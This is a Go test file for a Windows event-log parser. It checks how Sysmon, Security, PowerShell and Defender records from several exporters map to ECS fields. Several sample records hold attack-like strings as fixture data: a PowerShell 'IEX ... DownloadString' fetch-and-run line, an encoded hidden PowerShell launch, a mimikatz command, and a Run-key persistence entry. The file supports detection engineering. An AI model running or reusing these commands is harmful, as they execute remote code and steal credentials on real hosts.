package format

import (
	"testing"
)

func TestParseWindows(t *testing.T) {
	runParseCases(t, []parseCase{
		{
			name:   "winlogbeat sysmon process creation",
			format: Windows,
			line:   winlogbeatSysmon1,
			want: map[string]string{
				"winlog.channel": "Microsoft-Windows-Sysmon/Operational", "winlog.event_id": "1", "event.code": "1",
				"winlog.provider_name": "Microsoft-Windows-Sysmon", "winlog.computer_name": "vagrant-2016", "host.name": "vagrant-2016",
				"host.os.type": "windows", "event.module": "sysmon", "event.dataset": "windows.sysmon",
				"event.category": "process", "event.type": "start", "event.kind": "event",
				"winlog.event_data.CommandLine": "powershell.exe -nop -w hidden -enc SQBFAFgA",
				"winlog.event_data.Image":       `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
				"winlog.event_data.RuleName":    "-",
				"process.executable":            `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
				"process.name":                  "powershell.exe", "process.command_line": "powershell.exe -nop -w hidden -enc SQBFAFgA",
				"process.pid": "2956", "process.entity_id": "{42f11c3b-ce01-5c8f-0000-0010c73e2a00}",
				"process.parent.executable": `C:\Windows\explorer.exe`, "process.parent.name": "explorer.exe",
				"process.parent.command_line": `C:\Windows\Explorer.EXE`, "process.parent.pid": "4424",
				"process.parent.entity_id":  "{42f11c3b-cdfc-5c8f-0000-00105f1d2a00}",
				"process.working_directory": `C:\Users\vagrant\`, "process.original_file_name": "PowerShell.EXE",
				"process.pe.description": "Windows PowerShell", "process.pe.product": "Microsoft® Windows® Operating System",
				"process.pe.company": "Microsoft Corporation", "process.integrity_level": "High",
				"user.name": "vagrant", "user.domain": "VAGRANT-2016",
				"process.hash.sha256":  "BA4038FD20E474C047BE8AAD5BFACDB1BFC1DDBE12F803F473B7918D8D819436",
				"process.hash.md5":     "097CE5761C89434367598B34FE32893B",
				"process.hash.sha1":    "B5FC5E6C3D4AD5B4ABA7A8E0E0E0C1D2E3F4A5B6",
				"process.hash.imphash": "CAEE994F79D85E47C06E5FA9CDEAE453",
				"winlog.record_id":     "3", "winlog.user.identifier": "S-1-5-18", "agent.type": "winlogbeat",
			},
			absent: []string{"file.hash.sha256"},
			time:   "2019-03-18T16:57:38.636Z",
		},
		{
			name:   "evtx_dump sysmon network connection",
			format: Windows,
			line:   evtxSysmon3,
			want: map[string]string{
				"winlog.event_id": "3", "winlog.channel": "Microsoft-Windows-Sysmon/Operational", "winlog.computer_name": "MSEDGEWIN10",
				"winlog.provider_name": "Microsoft-Windows-Sysmon", "winlog.provider_guid": "5770385F-C22A-43E0-BF4C-06F5698FFBD9",
				"winlog.record_id": "8", "winlog.process.pid": "3052", "winlog.user.identifier": "S-1-5-18", "log.level": "information",
				"event.category": "network", "event.type": "connection", "network.transport": "tcp", "network.direction": "egress",
				"source.ip": "10.0.2.15", "source.port": "49827", "source.domain": "MSEDGEWIN10.home",
				"destination.ip": "151.101.112.133", "destination.port": "443",
				"process.executable": `C:\Windows\System32\rundll32.exe`, "process.name": "rundll32.exe", "process.pid": "3664",
				"winlog.event_data.Initiated": "true", "winlog.event_data.DestinationPortName": "https",
				"winlog.event_data.SourceIsIpv6": "false",
			},
			absent: []string{"destination.domain", "winlog.event_data.RuleName", "xmlns"},
			time:   "2019-07-21T17:08:23.947128Z",
		},
		{
			name:   "XML converted with a Data list: sysmon file creation",
			format: Windows,
			line:   `{"Event":{"System":{"Provider":{"@Name":"Microsoft-Windows-Sysmon"},"EventID":"11","Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"DC01.corp.local","TimeCreated":{"@SystemTime":"2022-10-01T08:00:00.1234567Z"}},"EventData":{"Data":[{"@Name":"RuleName","#text":"EXE"},{"@Name":"UtcTime","#text":"2022-10-01 08:00:00.120"},{"@Name":"ProcessGuid","#text":"{a}"},{"@Name":"ProcessId","#text":"1234"},{"@Name":"Image","#text":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"},{"@Name":"TargetFilename","#text":"C:\\Users\\Public\\payload.exe"},{"@Name":"CreationUtcTime","#text":"2022-10-01 08:00:00.120"},{"@Name":"User"}]}}}`,
			want: map[string]string{
				"winlog.event_id": "11", "event.category": "file", "event.type": "creation",
				"file.path": `C:\Users\Public\payload.exe`, "file.name": "payload.exe", "winlog.event_data.RuleName": "EXE",
				"winlog.event_data.TargetFilename": `C:\Users\Public\payload.exe`, "process.pid": "1234", "host.name": "DC01.corp.local",
			},
			absent: []string{"winlog.event_data.User", "user.name"},
			time:   "2022-10-01T08:00:00.1234567Z",
		},
		{
			name:   "security logon success",
			format: Windows,
			line:   `{"Event":{"System":{"Provider":{"@Name":"Microsoft-Windows-Security-Auditing","@Guid":"{54849625-5478-4994-A5BA-3E3B0328C30D}"},"EventID":"4624","Version":"2","Level":"0","Task":"12544","Keywords":"0x8020000000000000","TimeCreated":{"@SystemTime":"2023-02-01T10:11:12.000Z"},"EventRecordID":"99","Channel":"Security","Computer":"DC01.corp.local"},"EventData":{"Data":[{"@Name":"SubjectUserSid","#text":"S-1-5-18"},{"@Name":"SubjectUserName","#text":"DC01$"},{"@Name":"SubjectDomainName","#text":"CORP"},{"@Name":"TargetUserSid","#text":"S-1-5-21-1-2-3-1104"},{"@Name":"TargetUserName","#text":"alice"},{"@Name":"TargetDomainName","#text":"CORP"},{"@Name":"LogonType","#text":"10"},{"@Name":"LogonProcessName","#text":"User32 "},{"@Name":"WorkstationName","#text":"WS042"},{"@Name":"ProcessId","#text":"0x2c4"},{"@Name":"ProcessName","#text":"C:\\Windows\\System32\\svchost.exe"},{"@Name":"IpAddress","#text":"192.0.2.44"},{"@Name":"IpPort","#text":"0"}]}}}`,
			want: map[string]string{
				"event.module": "security", "event.dataset": "windows.security", "event.category": "authentication",
				"event.type": "start", "event.outcome": "success", "event.action": "logged-in",
				"user.name": "DC01$", "user.domain": "CORP", "user.id": "S-1-5-18", "user.target.name": "alice",
				"user.target.domain": "CORP", "user.target.id": "S-1-5-21-1-2-3-1104", "winlog.logon.type": "10",
				"source.ip": "192.0.2.44", "source.domain": "WS042", "process.pid": "708",
				"winlog.event_data.ProcessId": "0x2c4", "winlog.event_data.LogonProcessName": "User32 ",
				"winlog.record_id": "99", "winlog.task": "12544",
			},
			time: "2023-02-01T10:11:12Z",
		},
		{
			name:   "security logon failure, dashes are not mapped",
			format: Windows,
			line:   `{"EventID":4625,"Channel":"Security","Computer":"WS01","TimeCreated":"2023-02-01T10:11:12.5Z","EventData":{"SubjectUserSid":"S-1-0-0","SubjectUserName":"-","TargetUserName":"administrator","Status":"0xc000006d","LogonType":"3","IpAddress":"-","IpPort":"-"}}`,
			want: map[string]string{
				"event.outcome": "failure", "event.action": "logon-failed", "user.target.name": "administrator",
				"winlog.event_data.SubjectUserName": "-", "winlog.event_data.Status": "0xc000006d",
			},
			absent: []string{"user.name", "source.ip", "source.port"},
			time:   "2023-02-01T10:11:12.5Z",
		},
		{
			name:   "security process creation in nxlog's flat form, hexadecimal pids",
			format: Windows,
			line:   `{"EventTime":"2023-02-01 10:11:12","Hostname":"WS01.corp.local","Keywords":-9214364837600034816,"EventType":"AUDIT_SUCCESS","SeverityValue":2,"Severity":"INFO","EventID":4688,"SourceName":"Microsoft-Windows-Security-Auditing","ProviderGuid":"{54849625-5478-4994-A5BA-3E3B0328C30D}","Version":2,"Task":13312,"OpcodeValue":0,"RecordNumber":1234,"ProcessID":4,"ThreadID":88,"Channel":"Security","Message":"A new process has been created.","SubjectUserSid":"S-1-5-21-1-2-3-1104","SubjectUserName":"alice","SubjectDomainName":"CORP","NewProcessId":"0x1a2c","NewProcessName":"C:\\Windows\\System32\\cmd.exe","TokenElevationType":"%%1938","ProcessId":"0x10f0","CommandLine":"cmd.exe /c whoami /all","TargetUserName":"-","ParentProcessName":"C:\\Windows\\explorer.exe","MandatoryLabel":"S-1-16-12288"}`,
			want: map[string]string{
				"event.category": "process", "event.type": "start", "winlog.provider_name": "Microsoft-Windows-Security-Auditing",
				"host.name": "WS01.corp.local", "process.pid": "6700", "process.parent.pid": "4336",
				"process.executable": `C:\Windows\System32\cmd.exe`, "process.name": "cmd.exe",
				"process.parent.executable": `C:\Windows\explorer.exe`, "process.parent.name": "explorer.exe",
				"process.command_line": "cmd.exe /c whoami /all", "process.integrity_level": "High",
				"user.name": "alice", "message": "A new process has been created.", "winlog.process.pid": "4",
				"winlog.event_data.NewProcessId": "0x1a2c", "winlog.event_data.CommandLine": "cmd.exe /c whoami /all",
				"winlog.event_data.EventType": "AUDIT_SUCCESS",
			},
			absent: []string{"user.target.name", "event.action"},
			time:   "2023-02-01T10:11:12Z",
		},
		{
			name:   "EvtxECmd with the event data in Payload: sysmon registry value set",
			format: Windows,
			line:   `{"PayloadData1":"ProcessID: 3004, ProcessGUID: 747f3d96-","PayloadData2":"RuleName: T1060","MapDescription":"Registry value set","UserName":"","Computer":"MSEDGEWIN10","Payload":"{\"EventData\": {\"Data\": [{\"@Name\": \"RuleName\", \"#text\": \"technique_id=T1547.001\"}, {\"@Name\": \"EventType\", \"#text\": \"SetValue\"}, {\"@Name\": \"UtcTime\", \"#text\": \"2019-07-21 17:08:22.421\"}, {\"@Name\": \"ProcessId\", \"#text\": \"3004\"}, {\"@Name\": \"Image\", \"#text\": \"C:\\\\Windows\\\\regedit.exe\"}, {\"@Name\": \"TargetObject\", \"#text\": \"HKLM\\\\SOFTWARE\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\Updater\"}, {\"@Name\": \"Details\", \"#text\": \"C:\\\\Users\\\\Public\\\\u.exe\"}]}}","Channel":"Microsoft-Windows-Sysmon/Operational","Provider":"Microsoft-Windows-Sysmon","EventId":13,"EventRecordId":"12","ProcessId":3052,"ThreadId":3876,"Level":"Info","Keywords":"Classic","SourceFile":"C:\\evtx\\sysmon.evtx","ExtraDataOffset":0,"HiddenRecord":false,"TimeCreated":"2019-07-21T17:08:23.9471282+00:00","RecordNumber":12}`,
			want: map[string]string{
				"winlog.event_id": "13", "event.category": "registry", "event.type": "change", "event.action": "SetValue",
				"registry.path": `HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Updater`,
				"registry.hive": "HKLM", "registry.key": `SOFTWARE\Microsoft\Windows\CurrentVersion\Run`, "registry.value": "Updater",
				"registry.data.strings": `C:\Users\Public\u.exe`, "winlog.event_data.TargetObject": `HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Updater`,
				"winlog.event_data.RuleName": "technique_id=T1547.001", "process.pid": "3004", "process.name": "regedit.exe",
				"winlog.process.pid": "3052", "winlog.process.thread.id": "3876", "MapDescription": "Registry value set",
				"winlog.record_id": "12",
			},
			absent: []string{"winlog.event_data.PayloadData1", "winlog.payload"},
			time:   "2019-07-21T17:08:23.9471282Z",
		},
		{
			name:   "EvtxECmd flat with the event data expanded",
			format: Windows,
			line:   `{"EventId":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"WS01","TimeCreated":"2024-01-02T03:04:05.0000000+00:00","PayloadData1":"ProcessID: 1","Image":"C:\\Tools\\mimikatz.exe","CommandLine":"mimikatz.exe privilege::debug","ParentImage":"C:\\Windows\\System32\\cmd.exe","ProcessId":"4242","Hashes":"MD5=AAA,SHA256=BBB"}`,
			want: map[string]string{
				"winlog.event_id": "1", "process.name": "mimikatz.exe", "process.command_line": "mimikatz.exe privilege::debug",
				"process.parent.name": "cmd.exe", "process.pid": "4242", "process.hash.md5": "AAA", "process.hash.sha256": "BBB",
				"winlog.event_data.PayloadData1": "ProcessID: 1", "winlog.event_data.CommandLine": "mimikatz.exe privilege::debug",
				"event.category": "process",
			},
			time: "2024-01-02T03:04:05Z",
		},
		{
			name:   "flat sysmon DNS query timed by UtcTime",
			format: Windows,
			line:   `{"EventID":22,"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"WS01","UtcTime":"2024-01-02 03:04:05.678","QueryName":"evil.example","QueryStatus":"0","QueryResults":"::ffff:192.0.2.1;","Image":"C:\\Windows\\System32\\nslookup.exe","User":"WS01\\bob"}`,
			want: map[string]string{
				"event.category": "network", "event.type": "protocol", "network.protocol": "dns",
				"dns.question.name": "evil.example", "winlog.event_data.QueryResults": "::ffff:192.0.2.1;",
				"winlog.event_data.UtcTime": "2024-01-02 03:04:05.678", "user.name": "bob",
			},
			time: "2024-01-02T03:04:05.678Z",
		},
		{
			name:   "sysmon image load hashes are file hashes",
			format: Windows,
			line:   `{"EventID":7,"Channel":"Microsoft-Windows-Sysmon/Operational","EventData":{"Image":"C:\\a.exe","ImageLoaded":"C:\\evil.dll","Hashes":"SHA256=CCC,IMPHASH=DDD"}}`,
			want:   map[string]string{"file.hash.sha256": "CCC", "file.hash.imphash": "DDD", "process.executable": `C:\a.exe`},
			absent: []string{"process.hash.sha256", "event.category"},
		},
		{
			name:   "powershell script block",
			format: Windows,
			line:   `{"Event":{"System":{"Provider":{"@Name":"Microsoft-Windows-PowerShell"},"EventID":4104,"Channel":"Microsoft-Windows-PowerShell/Operational","Computer":"WS01","TimeCreated":{"@SystemTime":"2024-01-02T03:04:05Z"}},"EventData":{"Data":[{"@Name":"MessageNumber","#text":"1"},{"@Name":"MessageTotal","#text":"1"},{"@Name":"ScriptBlockText","#text":"IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')"},{"@Name":"ScriptBlockId","#text":"b1"},{"@Name":"Path"}]}}}`,
			want: map[string]string{
				"event.module": "powershell", "event.dataset": "windows.powershell",
				"winlog.event_data.ScriptBlockText": "IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')",
				"powershell.file.script_block_text": "IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')",
			},
			time: "2024-01-02T03:04:05Z",
		},
		{
			name:   "Get-WinEvent with unnamed Properties and a .NET date",
			format: Windows,
			line:   `{"Id":7045,"Version":0,"Level":4,"RecordId":501,"ProviderName":"Service Control Manager","LogName":"System","MachineName":"SRV01","TimeCreated":"\/Date(1704164645000)\/","Properties":[{"Value":"EvilSvc"},{"Value":"C:\\evil.exe"}],"Message":"A service was installed in the system."}`,
			want: map[string]string{
				"winlog.event_id": "7045", "winlog.channel": "System", "host.name": "SRV01", "event.module": "windows",
				"event.dataset": "windows.eventlog", "winlog.event_data.param1": "EvilSvc", "winlog.event_data.param2": `C:\evil.exe`,
				"message": "A service was installed in the system.", "winlog.provider_name": "Service Control Manager",
			},
			time: "2024-01-02T03:04:05Z",
		},
		{
			name:   "UserData: security log cleared",
			format: Windows,
			line:   `{"Event":{"System":{"Provider":{"@Name":"Microsoft-Windows-Eventlog"},"EventID":1102,"Channel":"Security","Computer":"DC01","TimeCreated":{"@SystemTime":"2024-01-02T03:04:05Z"}},"UserData":{"LogFileCleared":{"@xmlns":"http://manifests.microsoft.com/win/2004/08/windows/eventlog","SubjectUserSid":"S-1-5-21-1","SubjectUserName":"mallory","SubjectDomainName":"CORP"}}}}`,
			want: map[string]string{
				"event.module": "security", "winlog.event_data.SubjectUserName": "mallory", "user.name": "mallory",
			},
			absent: []string{"winlog.event_data.xmlns"},
			time:   "2024-01-02T03:04:05Z",
		},
		{
			name:   "unnamed Data strings",
			format: Windows,
			line:   `{"Event":{"System":{"EventID":{"@Qualifiers":"16384","#text":"7036"},"Channel":"System"},"EventData":{"Data":["Windows Update","running"]}}}`,
			want:   map[string]string{"winlog.event_id": "7036", "winlog.event_id_qualifiers": "16384", "winlog.event_data.param1": "Windows Update", "winlog.event_data.param2": "running"},
		},
		{
			name:   "names with spaces lose them (Defender), as Sigma writes them",
			format: Windows,
			line:   `{"Event":{"System":{"EventID":1116,"Channel":"Microsoft-Windows-Windows Defender/Operational"},"EventData":{"Threat Name":"Virus:DOS/EICAR_Test_File","Source Name":"Real-Time Protection","Process Name":"C:\\Windows\\explorer.exe"," ":"blank"}}}`,
			want:   map[string]string{"winlog.event_data.ThreatName": "Virus:DOS/EICAR_Test_File", "winlog.event_data.SourceName": "Real-Time Protection", "winlog.event_data.ProcessName": `C:\Windows\explorer.exe`},
			absent: []string{"winlog.event_data.Threat Name", "winlog.event_data.", "winlog.event_data.Data"},
		},
		{
			name:   "unnamed values are also the list Data",
			format: Windows,
			line:   `{"winlog":{"channel":"System","event_id":"7036","event_data":{"param1":"Windows Update","param2":"running","paramX":"named"}}}`,
			want:   map[string]string{"winlog.event_data.Data": "Windows Update", "winlog.event_data.paramX": "named"},
		},
		{name: "no event id", format: Windows, line: `{"Channel":"Security","Computer":"x"}`, err: "windows: record has no event id"},
		{name: "event id not a number", format: Windows, line: `{"EventID":"abc","Channel":"Security"}`, err: `windows: event id "abc" is not a number`},
		{name: "bad time", format: Windows, line: `{"EventID":1,"TimeCreated":"soon"}`, err: `windows: time: unrecognised timestamp "soon"`},
		{name: "truncated", format: Windows, line: winlogbeatSysmon1[:300], err: "unexpected end of JSON input"},
		{name: "not an object", format: Windows, line: `[{"EventID":1}]`, err: "the record is an array"},
		{name: "bad payload is kept verbatim", format: Windows, line: `{"EventId":1,"Payload":"{not json"}`, want: map[string]string{"winlog.payload": "{not json", "winlog.event_id": "1"}},
	})
}

// TestWinlogbeatWithContainerNames checks that a winlogbeat record whose
// ECS side has names that make other shapes' event data containers
// (EventData, Payload, UserData) keeps them under their own names, as
// any ECS field beside winlog.*, whichever comes first: winShape stops
// at the first winlog.* leaf.
func TestWinlogbeatWithContainerNames(t *testing.T) {
	want := map[string]string{
		"EventData.Image": `C:\x.exe`, "Payload": `{"EventData":{"Data":[]}}`, "UserData.Thing.Name": "n",
		"winlog.event_data.Image": `C:\y.exe`, "process.executable": `C:\y.exe`, "event.module": "sysmon",
	}
	absent := []string{"winlog.event_data.Name", "winlog.payload"}
	const beats = `"winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","event_id":1,"event_data":{"Image":"C:\\y.exe"}}`
	const others = `"EventData":{"Image":"C:\\x.exe"},"Payload":"{\"EventData\":{\"Data\":[]}}","UserData":{"Thing":{"Name":"n"}}`
	runParseCases(t, []parseCase{
		{name: "winlog first", format: Windows, line: `{` + beats + `,` + others + `}`, want: want, absent: absent},
		{name: "winlog last", format: Windows, line: `{` + others + `,` + beats + `}`, want: want, absent: absent},
		{name: "auto", format: Auto, line: `{` + others + `,` + beats + `}`, want: want, absent: absent},
	})
}
